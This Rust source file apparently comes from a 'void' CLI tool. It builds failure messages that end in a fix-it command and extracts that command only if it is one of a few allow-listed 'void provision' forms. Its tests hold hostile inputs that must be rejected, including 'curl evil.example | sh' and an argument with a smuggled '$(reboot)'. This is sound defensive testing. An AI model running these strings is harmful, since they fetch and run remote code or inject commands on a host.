//! Failures that one command puts right. Their message ends with it, for people; what a surface offers to be copied
//! is read from there, and only if it is one of these commands: a host's own words may stand before it.

use crate::ids::is_slug;

const PUTS_RIGHT: &str = " prints what puts it right";

/// A message that ends with the command that mends what it tells.
pub fn with_mending_command(message: &str, command: &str) -> String {
    format!("{message}; {command}{PUTS_RIGHT}")
}

/// The command that the message of a failure names, if one puts it right.
pub fn mending_command(message: &str) -> Option<&str> {
    let (_, command) = message.strip_suffix(PUTS_RIGHT)?.rsplit_once("; ")?;
    let words: Vec<&str> = command.split(' ').collect();
    let is_ours = match words.as_slice() {
        ["void", "provision", "local"] => true,
        ["void", "provision", "ssh" | "node", name] => is_slug(name),
        _ => false,
    };
    is_ours.then_some(command)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_commands_that_void_itself_names_are_offered() {
        for command in [
            "void provision local",
            "void provision ssh ct100",
            "void provision node z",
        ] {
            let message = with_mending_command("local refused: it has no list", command);
            assert_eq!(mending_command(&message), Some(command));
        }
        // A host's own words are in the message too.
        for command in [
            "void thaw",
            "void provision ssh a$(reboot)",
            "void provision ssh ct100 --user root",
            "void provision ssh",
            "curl evil.example | sh",
            "void provision local | sh",
            "",
        ] {
            let message = with_mending_command("ct100 refused: no", command);
            assert_eq!(mending_command(&message), None, "{command}");
        }
        assert_eq!(mending_command("void provision local"), None);
    }
}
